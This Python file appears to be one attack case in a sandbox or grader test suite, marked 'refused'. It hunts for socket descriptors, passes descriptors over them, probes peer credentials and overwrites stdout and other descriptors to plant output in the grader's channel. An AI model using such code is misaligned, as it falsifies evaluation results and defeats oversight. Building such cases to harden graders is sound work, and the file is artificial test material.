# /// attack
# title = "duplicates, crosses and shuts the descriptors that it has, and sends descriptors over them"
# aim = "the grader's own output, or a descriptor that the grader keeps"
# refused = true
# ///
import array
import socket
import stat
import os as _os

from targets import attempt

fstat, listdir = _os.fstat, _os.listdir
dup2 = getattr(_os, "dup2")


def sockets():
    for fd in range(64):
        try:
            if stat.S_ISSOCK(fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def double(x):
    null = open("/dev/null", "rb")
    for fd in list(sockets()):
        other = socket.socket(fileno=getattr(_os, "dup")(fd))
        for _ in range(3):
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null.fileno(), fd, 0]))
            attempt(other.sendmsg, [b"\x00"], [rights])
        attempt(other.setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        attempt(other.recv, 100, socket.MSG_DONTWAIT | socket.MSG_PEEK)
        attempt(other.getpeername)
        attempt(other.getsockopt, socket.SOL_SOCKET, 17, 12)  # SO_PEERCRED
        attempt(other.connect, b"\0x")
        attempt(other.bind, "planted")
        attempt(other.listen)
        attempt(other.accept)
    first, *rest = sockets()
    for fd in rest:
        dup2(first, fd)
    for fd in (0, 1, 2):
        dup2(rest[-1] if rest else first, fd)
    print("value")
    return x
